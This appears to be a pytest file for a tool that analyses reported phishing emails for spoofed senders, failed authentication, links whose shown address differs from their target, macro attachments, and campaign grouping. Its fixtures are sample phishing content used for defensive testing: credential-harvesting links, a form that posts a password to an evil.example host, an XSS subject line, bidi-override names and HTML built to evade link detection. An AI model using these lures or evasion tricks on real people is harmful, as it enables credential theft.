"""A reported suspicious message is read, never rendered: who it claims to be, where it really leads, what the
receiving server thought of it, and which reports belong to one campaign (tickets/phishing/). No database."""

import time
from dataclasses import fields
from datetime import UTC, datetime, timedelta, timezone
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default as default_policy

import pytest
from django.utils import translation

from tests import helpers
from tickets.phishing import (
    MAX_LINKS,
    Finding,
    MessageUnreadable,
    ReportedMessage,
    campaign_key,
    parse_headers,
    parse_message,
)

FIXTURES = helpers.FIXTURES / "phishing"
ORGANISATION = ["ac-exemple.fr"]


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def parsed(name: str, **kwargs) -> ReportedMessage:
    return parse_message(fixture(name), organisation_domains=ORGANISATION, **kwargs)


def codes(message: ReportedMessage) -> list[str]:
    return [finding.code for finding in message.warnings]


def all_text(message: ReportedMessage) -> str:
    """Every string the report exposes, to check nothing HTML comes out."""
    values = [getattr(message, f.name) for f in fields(message)]
    values += [vars(hop) for hop in message.received] + [vars(link) for link in message.links]
    values += [str(finding) for finding in message.warnings]
    return repr(values)


# --- The credential phish ----------------------------------------------------------------------------------------


def test_the_sender_and_where_replies_go():
    message = parsed("boite-pleine-jeanne.eml")

    assert message.sender == "Service informatique <support@acad3mie-fr.com>"
    assert message.sender_name == "Service informatique"
    assert message.sender_address == "support@acad3mie-fr.com"
    assert message.sender_domain == "acad3mie-fr.com"
    assert message.reply_to == "Support Messagerie <verification.compte@outlook-assistance.net>"
    assert message.return_path == "<bounce-7731@acad3mie-fr.com>"
    assert message.recipients == [("Jeanne Martin", "jeanne.martin@ac-exemple.fr")]


def test_the_subject_date_and_message_id_are_decoded():
    message = parsed("boite-pleine-jeanne.eml")

    # Two RFC 2047 encoded words that split "est " / "pleine" join without a stray space.
    assert message.subject == "Jeanne Martin : votre boîte aux lettres est pleine à 98 % (dossier n° 48213)"
    assert message.date == datetime(2026, 11, 3, 7, 12, 40, tzinfo=UTC)
    assert message.message_id == "<20261103071240.5f1c2a@mail.acad3mie-fr.com>"


def test_the_relay_chain_newest_first():
    hops = parsed("boite-pleine-jeanne.eml").received

    assert [(hop.from_host, hop.by_host, hop.ip) for hop in hops] == [
        ("mx1.ac-exemple.fr", "imap2.ac-exemple.fr", "127.0.0.1"),
        ("mail.acad3mie-fr.com", "mx1.ac-exemple.fr", "185.220.41.219"),
        ("[10.8.0.14]", "mail.acad3mie-fr.com", "10.8.0.14"),
    ]
    assert hops[1].at == datetime(2026, 11, 3, 8, 12, 44, tzinfo=timezone(timedelta(hours=1)))
    assert all(hop.at.tzinfo is not None for hop in hops)
    assert hops[1].raw.startswith("from mail.acad3mie-fr.com (vps-41-219.hebergeur-low-cost.net")
    assert all(len(hop.raw) <= 300 for hop in hops)


def test_the_receiving_servers_verdicts():
    assert parsed("boite-pleine-jeanne.eml").authentication == {"spf": "fail", "dkim": "none", "dmarc": "fail"}


def test_links_from_the_html_part_show_the_real_target_and_the_lie():
    links = parsed("boite-pleine-jeanne.eml").links
    lying = [link for link in links if link.mismatch]

    assert len(lying) == 1
    assert lying[0].text == "https://webmail.ac-exemple.fr"
    assert lying[0].domain == "ac-exemple-fr.login-verif.xyz"
    assert lying[0].url == "http://ac-exemple-fr.login-verif.xyz/owa/auth/?u=jeanne.martin&t=8f3a9c1d"
    button = next(link for link in links if link.text == "Augmenter mon quota")
    assert not button.mismatch
    # The script's address and the tracking pixel are not links; the plain-text part's address is.
    assert {link.domain for link in links} == {"ac-exemple-fr.login-verif.xyz"}
    assert any(link.text == link.url for link in links)


def test_the_warnings_in_plain_words():
    message = parsed("boite-pleine-jeanne.eml")

    assert codes(message) == [
        "reply_to_mismatch",
        "display_name_impersonation",
        "lookalike_domain",
        "link_mismatch",
        "authentication_failed",
        "authentication_failed",
    ]
    with translation.override("en"):
        messages = [str(finding) for finding in message.warnings]
    assert (
        "Replies go to the domain outlook-assistance.net, not to the sender's domain acad3mie-fr.com: an answer "
        "would reach someone else." in messages
    )
    assert "A link shows webmail.ac-exemple.fr but leads to ac-exemple-fr.login-verif.xyz." in messages
    assert any("SPF" in text and "fail" in text for text in messages)
    assert any("DMARC" in text for text in messages)
    assert any("“Service informatique”" in text and "acad3mie-fr.com" in text for text in messages)


def test_nothing_returned_is_html():
    text = all_text(parsed("boite-pleine-jeanne.eml"))

    assert "<script" not in text
    assert "<a " not in text
    assert "<img" not in text


def test_organisation_domains_come_from_the_settings(settings):
    settings.GUICHET_ORGANISATION_MAIL_DOMAINS = ["ac-exemple.fr"]
    assert "display_name_impersonation" in codes(parse_message(fixture("boite-pleine-jeanne.eml")))

    settings.GUICHET_ORGANISATION_MAIL_DOMAINS = []
    unconfigured = codes(parse_message(fixture("boite-pleine-jeanne.eml")))
    # Without them nobody can say what "outside" is: those two checks are skipped, the others still run.
    assert "display_name_impersonation" not in unconfigured
    assert "lookalike_domain" not in unconfigured
    assert "link_mismatch" in unconfigured


# --- Other messages ------------------------------------------------------------------------------------------------


def test_macro_documents_and_archives_are_named():
    message = parsed("facture-docm.eml")

    assert [(a.filename, a.content_type) for a in message.attachments] == [
        ("Facture_FA-2026-0412.docm", "application/vnd.ms-word.document.macroenabled.12"),
        ("releve.pdf.zip", "application/zip"),
    ]
    assert all(size > 0 for _name, _type, size in message.attachments)
    assert codes(message) == ["attachment_macro", "attachment_archive", "attachment_double_extension"]
    assert message.authentication == {"spf": "pass", "dkim": "pass", "dmarc": "pass"}


def test_a_legitimate_message_raises_no_warning():
    message = parsed("legitime.eml")

    assert message.sender == "Messagerie académique <ne-pas-repondre@ac-exemple.fr>"
    assert message.subject == "Maintenance de la messagerie le jeudi 12 novembre de 18 h à 20 h"  # no-break spaces
    assert {link.domain for link in message.links} == {"www.ac-exemple.fr", "webmail.ac-exemple.fr"}
    assert not any(link.mismatch for link in message.links)
    assert message.warnings == []


def test_an_iso_8859_1_encoded_subject_and_body():
    message = parsed("sujet-iso-8859-1.eml")

    assert message.subject == "Dernière relance : votre mot de passe expire aujourd'hui"
    assert message.sender == "Sécurité Messagerie <alerte@secur1te-messagerie.com>"
    assert message.authentication == {"spf": "softfail"}
    assert [link.url for link in message.links] == [
        "https://secur1te-messagerie.com/renouveler?id=77e1&compte=jeanne.martin"
    ]
    assert "display_name_impersonation" in codes(message)
    assert message.received[0].ip == "203.0.113.77"


def test_a_broken_truncated_message_is_read_as_far_as_possible():
    message = parsed("tronque.eml")

    assert message.subject == "Urgent : accès à votre messagerie suspendu"  # raw Latin-1 bytes in the header
    assert message.sender_address == "admin@ac-exemple.fr.verification-compte.top"
    assert message.sender_name == "Administrateur réseau"  # unknown charset "x-inconnu"
    assert message.date is None  # "demain matin"
    assert message.received[0].ip == "203.0.113.45"
    assert message.received[0].at is None
    # The HTML part has an unknown charset and its base64 is cut short: what is there is still read.
    assert [(link.url, link.text) for link in message.links] == [
        ("http://203.0.113.45/webmail/login.php?id=42", "Connexion sécurisée")
    ]
    assert {"link_to_ip", "lookalike_domain", "display_name_impersonation", "authentication_failed"} <= set(
        codes(message)
    )


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00",
        b"Bonjour, je n'arrive plus a me connecter depuis ce matin.",
        bytes(range(256)) * 40,
        b"X-Rien: du tout\n\ncorps",
    ],
)
def test_garbage_raises_message_unreadable_with_a_plain_message(raw):
    with pytest.raises(MessageUnreadable) as caught:
        parse_message(raw)

    assert ".eml" in str(caught.value.message)


def test_hostile_display_names_lose_their_control_and_direction_characters():
    raw = (
        b"From: =?utf-8?q?Support_=E2=80=AEfr.emixe-ca=E2=80=AC_=0D=0A?= <x@evil.example>\n"
        b"Subject: =?utf-8?q?<script>alert(1)</script>?=\n\n"
        b"corps"
    )
    message = parse_message(raw, organisation_domains=ORGANISATION)

    assert message.sender_name == "Support fr.emixe-ca"
    assert message.subject == "<script>alert(1)</script>"  # plain text: the template escapes it


def test_forms_ip_links_and_look_alike_letters_are_reported():
    message = EmailMessage(policy=default_policy)
    message["From"] = "Webmail <no-reply@webmail-update.example>"
    message["Subject"] = "Vérification"
    message.set_content(
        '<form action="https://collect.evil.example/post"><input name="password"></form>'
        '<a href="http://0xC0A80001/login">Se connecter</a>'
        '<a href="https://xn--acadmie-fya.fr/">Académie</a>'
        '<a href="https://webmail.ac-exemple.fr@phish.example/">https://webmail.ac-exemple.fr</a>',
        subtype="html",
    )

    report = parse_message(message.as_bytes(), organisation_domains=ORGANISATION)

    assert {"form", "link_to_ip", "punycode_domain", "link_mismatch"} <= set(codes(report))
    assert "collect.evil.example" in " ".join(map(str, report.warnings))
    assert next(link for link in report.links if "phish" in link.domain).mismatch


@pytest.mark.parametrize("how", ["message/rfc822", "base64 message/rfc822", ".eml file"])
def test_a_phish_forwarded_as_an_attachment_can_be_unwrapped(how):
    forward = EmailMessage(policy=default_policy)
    forward["From"] = "Jeanne Martin <jeanne.martin@ac-exemple.fr>"
    forward["To"] = "signalement@ac-exemple.fr"
    forward["Subject"] = "TR: message suspect"
    forward.set_content("Bonjour, je vous transmets ce message bizarre.")
    phish = fixture("boite-pleine-jeanne.eml")
    if how == "message/rfc822":
        forward.add_attachment(message_from_bytes(phish, policy=default_policy))
    elif how == "base64 message/rfc822":
        forward.add_attachment(phish, maintype="message", subtype="rfc822", cte="base64")
    else:
        forward.add_attachment(phish, maintype="application", subtype="octet-stream", filename="suspect.eml")
    raw = forward.as_bytes()

    assert parse_message(raw).subject == "TR: message suspect"
    inner = parse_message(raw, unwrap_forward=True, organisation_domains=ORGANISATION)
    assert inner.sender_domain == "acad3mie-fr.com"
    assert any(link.mismatch for link in inner.links)


def test_a_warning_is_stable_data_and_translated_when_read():
    finding = parsed("boite-pleine-jeanne.eml").warnings[0]

    assert finding == Finding(
        "reply_to_mismatch", (("reply_domain", "outlook-assistance.net"), ("sender_domain", "acad3mie-fr.com"))
    )
    with translation.override("fr"):
        assert isinstance(finding.message, str) and "outlook-assistance.net" in finding.message
    assert str(finding) == finding.message


# --- Size and hostile structure ------------------------------------------------------------------------------------


def test_links_are_capped():
    anchors = "".join(f'<a href="https://site{n}.example/">lien {n}</a>' for n in range(MAX_LINKS * 3))
    raw = f"From: a@b.example\nSubject: liens\nContent-Type: text/html\n\n{anchors}".encode()

    message = parse_message(raw)

    assert len(message.links) == MAX_LINKS
    assert message.truncated


def test_only_the_first_bytes_of_a_huge_message_are_read():
    raw = b"From: a@b.example\nSubject: gros\n\n" + b"a" * 2_000_000

    message = parse_message(raw, max_bytes=100_000)

    assert message.subject == "gros"
    assert message.truncated


@pytest.mark.parametrize(
    "body",
    [
        "<a" * 100_000,  # html.parser alone: minutes (it rescans the rest for each unfinished tag)
        "<!--" * 100_000,
        "</a" * 100_000,
    ],
)
def test_unfinished_html_constructs_are_read_in_linear_time(body):
    raw = f"From: a@b.example\nSubject: x\nContent-Type: text/html\n\n{body}".encode()

    started = time.monotonic()
    parse_message(raw)

    assert time.monotonic() - started < 15


def test_thousands_of_parts_or_nesting_levels_do_not_stall_or_fail():
    many = b"".join(b"--b\nContent-Type: text/plain\n\nhttp://a.example/\n" for _ in range(20_000))
    nested = b"".join(b"--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n" % (n, n + 1) for n in range(3000))

    for body, boundary in ((many, b"b"), (nested, b"b0")):
        started = time.monotonic()
        message = parse_message(
            b"From: a@b.example\nSubject: parts\nContent-Type: multipart/mixed; boundary=" + boundary + b"\n\n" + body
        )
        assert message.subject == "parts"
        assert message.truncated
        assert time.monotonic() - started < 15


def test_headers_that_defeat_the_stdlib_parser_still_give_a_report():
    raw = b"From: " + b"(" * 50_000 + b"\nReply-To: " + b"a," * 50_000 + b"\nSubject: ok\n\n"

    assert parse_message(raw).subject == "ok"


# --- Pasted headers ------------------------------------------------------------------------------------------------

PASTED = """Voici les en-têtes du message :

Received: from mail.acad3mie-fr.com (vps-41-219.hebergeur-low-cost.net [185.220.41.219])
by mx1.ac-exemple.fr (Postfix) with ESMTPS id 4Xk2Lq0Zb9z9sWq
for <jeanne.martin@ac-exemple.fr>; Tue, 03 Nov 2026 08:12:44 +0100 (CET)
Authentication-Results: mx1.ac-exemple.fr; spf=fail smtp.mailfrom=acad3mie-fr.com; dkim=none; dmarc=fail
From: Service informatique <support@acad3mie-fr.com>
Reply-To: "Support Messagerie" <verification.compte@outlook-assistance.net>
To: Jeanne Martin <jeanne.martin@ac-exemple.fr>
Subject: =?UTF-8?B?SmVhbm5lIE1hcnRpbiA6IHZvdHJlIGJvw650ZSBhdXggbGV0dHJlcyBlc3Qg?=
 =?UTF-8?B?cGxlaW5lIMOgIDk4ICUgKGRvc3NpZXIgbsKwIDQ4MjEzKQ==?=
Date: Tue, 03 Nov 2026 07:12:40 +0000

Bonjour Jeanne, cliquez ici : http://ac-exemple-fr.login-verif.xyz/
"""


def test_pasted_headers_are_read_even_when_the_folding_was_lost():
    message = parse_headers(PASTED, organisation_domains=ORGANISATION)

    assert message.sender_domain == "acad3mie-fr.com"
    assert message.subject.startswith("Jeanne Martin : votre boîte aux lettres est pleine")
    # Its "by" and "for" lines lost their indentation in the copy and were joined back.
    assert message.received[0].by_host == "mx1.ac-exemple.fr"
    assert message.received[0].ip == "185.220.41.219"
    assert message.received[0].at is not None
    assert message.authentication == {"spf": "fail", "dkim": "none", "dmarc": "fail"}
    assert message.links == [] and message.attachments == []  # the pasted body is ignored
    assert {"reply_to_mismatch", "display_name_impersonation", "authentication_failed"} <= set(codes(message))


@pytest.mark.parametrize("text", ["", "   \n\n", "je ne sais pas comment copier les en-têtes", "Bonjour:"])
def test_pasted_text_without_headers_is_unreadable(text):
    with pytest.raises(MessageUnreadable):
        parse_headers(text)


# --- Campaigns -----------------------------------------------------------------------------------------------------


def test_two_copies_of_one_campaign_share_a_key():
    """Different recipients, names in the subject, percentages, file numbers, dates, relays, tracking tokens
    and per-recipient link sub-domains: same campaign."""
    jeanne, paul = parsed("boite-pleine-jeanne.eml"), parsed("boite-pleine-paul.eml")

    assert jeanne.subject != paul.subject and jeanne.date != paul.date
    assert {link.url for link in jeanne.links}.isdisjoint({link.url for link in paul.links})
    assert campaign_key(jeanne) == campaign_key(paul)


def test_the_key_is_short_and_stable():
    key = campaign_key(parsed("boite-pleine-jeanne.eml"))

    # Pinned: a change here regroups every stored report; bump the "v1" in the recipe when it is on purpose.
    assert key == "8fd326876e1f0d53"


def test_a_forwarded_copy_keeps_the_key():
    raw = fixture("boite-pleine-jeanne.eml")
    forwarded = raw.replace(b"Subject: =?UTF-8?B?", b"Subject: TR: [SUSPECT] =?UTF-8?B?", 1)

    assert campaign_key(parse_message(forwarded)) == campaign_key(parse_message(raw))


def test_different_campaigns_get_different_keys():
    keys = {
        campaign_key(parsed(name))
        for name in (
            "boite-pleine-jeanne.eml",
            "facture-docm.eml",
            "legitime.eml",
            "sujet-iso-8859-1.eml",
            "tronque.eml",
        )
    }

    assert len(keys) == 5


def test_the_same_subject_from_elsewhere_or_to_other_sites_is_another_campaign():
    raw = fixture("boite-pleine-jeanne.eml")
    original = campaign_key(parse_message(raw))

    other_sender = raw.replace(b"From: Service informatique <support@acad3mie-fr.com>", b"From: IT <it@autre.example>")
    other_links = raw.replace(b"login-verif.xyz/owa", b"autre-site.top/owa")

    assert campaign_key(parse_message(other_sender)) != original
    assert campaign_key(parse_message(other_links)) != original


def test_pasted_headers_group_with_the_header_only_key_of_a_whole_message():
    pasted = parse_headers(PASTED)
    whole = parsed("boite-pleine-jeanne.eml")

    assert campaign_key(pasted) == campaign_key(whole, include_links=False)
    assert campaign_key(pasted) != campaign_key(whole)


# --- What attackers send, read as a browser and a registrar would -------------------------------------------------


def test_a_link_whose_attribute_holds_a_closing_bracket_is_still_read():
    """A pattern match stops the tag at the ">" inside title="…": the link, and its mismatch, disappeared."""
    message = parsed("lien-attribut-chevron.eml")

    [link] = message.links
    assert link.url == "https://verif-messagerie.example/c/8812"
    assert link.text == "https://webmail.ac-exemple.fr/confirmer"
    assert link.mismatch is True
    assert "link_mismatch" in codes(message)


def test_two_sites_under_a_shared_suffix_are_different_sites():
    """github.io is on the Public Suffix List: each of its sub-domains belongs to whoever registered it."""
    message = parsed("sous-domaine-github-io.eml")

    [link] = message.links
    assert link.domain == "rh-documents-2026.github.io"
    assert link.mismatch is True
    with translation.override("en"):
        assert [str(finding) for finding in message.warnings if finding.code == "link_mismatch"] == [
            "A link shows portail-personnels.github.io but leads to rh-documents-2026.github.io."
        ]


def test_sub_domains_of_one_registered_domain_are_one_site():
    html = '<a href="https://login.ac-exemple.fr/">https://webmail.ac-exemple.fr/</a>'
    message = parse_message(_html_message(html), organisation_domains=ORGANISATION)
    assert [link.mismatch for link in message.links] == [False]


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://evil.example/" data-x=\'<a href="https://webmail.ac-exemple.fr/">\'>webmail.ac-exemple.fr</a>',
        "<a href=https://evil.example/>webmail.ac-exemple.fr</a >",
        '<A HREF="https://evil.example/"><span>webmail.</span><b>ac-exemple.fr</b></A>',
        '<!-- <a href="https://webmail.ac-exemple.fr/"> --><a href="https://evil.example/">webmail.ac-exemple.fr</a>',
    ],
)
def test_the_html_is_read_as_a_browser_reads_it(html):
    message = parse_message(_html_message(html), organisation_domains=ORGANISATION)
    assert [(link.domain, link.mismatch) for link in message.links] == [("evil.example", True)]


def _html_message(html: str) -> bytes:
    return (
        "From: Support <support@evil.example>\nTo: marie.dupont@ac-exemple.fr\nSubject: Test\n"
        "Date: Mon, 23 Nov 2026 10:00:00 +0100\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
        f"<html><body>{html}</body></html>\n"
    ).encode()


# --- Outlook files ---------------------------------------------------------------------------------------------------

OUTLOOK_HEADERS = """Received: from mail.acad3mie-fr.com (mail.acad3mie-fr.com [203.0.113.7])
 by mx.ac-exemple.fr with ESMTP; Mon, 16 Nov 2026 08:00:00 +0100
Authentication-Results: mx.ac-exemple.fr; spf=fail smtp.mailfrom=acad3mie-fr.com
From: Service informatique <support@acad3mie-fr.com>
To: marie.dupont@ac-exemple.fr
Subject: Votre boite mail sera suspendue
Date: Mon, 16 Nov 2026 08:00:00 +0100
Message-ID: <outlook-1@acad3mie-fr.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

"""


def outlook_phish() -> bytes:
    from tests.tickets.outlook_msg import outlook_message

    return outlook_message(
        headers=OUTLOOK_HEADERS,
        subject="Votre boite mail sera suspendue",
        sender="Service informatique",
        body="Cliquez sur https://login.acad3mie-fr.com/verify pour garder votre accès.",
        html='<p>Cliquez <a href="https://login.acad3mie-fr.com/verify">https://webmail.ac-exemple.fr</a></p>',
    )


def test_an_outlook_message_is_read_like_the_message_it_holds():
    from tickets.phishing import parse_outlook_message

    message = parse_outlook_message(outlook_phish(), organisation_domains=ORGANISATION)

    assert message.sender == "Service informatique <support@acad3mie-fr.com>"
    assert message.subject == "Votre boite mail sera suspendue"
    assert message.received[0].ip == "203.0.113.7"
    assert message.authentication["spf"] == "fail"
    # The plain body's address, then the HTML body's link that shows the webmail's.
    assert [(link.domain, link.mismatch) for link in message.links] == [
        ("login.acad3mie-fr.com", False),
        ("login.acad3mie-fr.com", True),
    ]
    assert {"link_mismatch", "authentication_failed", "display_name_impersonation"} <= set(codes(message))


def test_an_outlook_message_forwarded_as_an_attachment_is_unwrapped():
    forward = EmailMessage()
    forward["From"] = "Marie Dupont <marie.dupont@ac-exemple.fr>"
    forward["To"] = "securite@ac-exemple.fr"
    forward["Subject"] = "TR: message suspect"
    forward["Date"] = "Mon, 16 Nov 2026 09:00:00 +0100"
    forward.set_content("Je vous transfère ce message.")
    forward.add_attachment(
        outlook_phish(), maintype="application", subtype="vnd.ms-outlook", filename="Votre boite.msg"
    )
    inner = parse_message(forward.as_bytes(), unwrap_forward=True, organisation_domains=ORGANISATION)
    assert inner.sender_address == "support@acad3mie-fr.com"


@pytest.mark.parametrize(
    "raw",
    [b"", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000, b"From: x\n\nnot an outlook file"],
)
def test_a_broken_outlook_file_is_unreadable_not_an_error(raw):
    from tickets.phishing import parse_outlook_message

    with pytest.raises(MessageUnreadable):
        parse_outlook_message(raw)


def test_an_attachment_named_msg_that_is_not_outlook_does_not_hide_the_forwarded_message():
    forward = EmailMessage()
    forward["From"] = "Marie Dupont <marie.dupont@ac-exemple.fr>"
    forward["Subject"] = "TR: message suspect"
    forward["Date"] = "Mon, 16 Nov 2026 09:00:00 +0100"
    forward.set_content("Deux pièces jointes.")
    forward.add_attachment(b"not an outlook file", maintype="application", subtype="octet-stream", filename="x.msg")
    forward.add_attachment(message_from_bytes(fixture("boite-pleine-jeanne.eml"), policy=default_policy))
    inner = parse_message(forward.as_bytes(), unwrap_forward=True, organisation_domains=ORGANISATION)
    assert inner.sender_address == "support@acad3mie-fr.com"
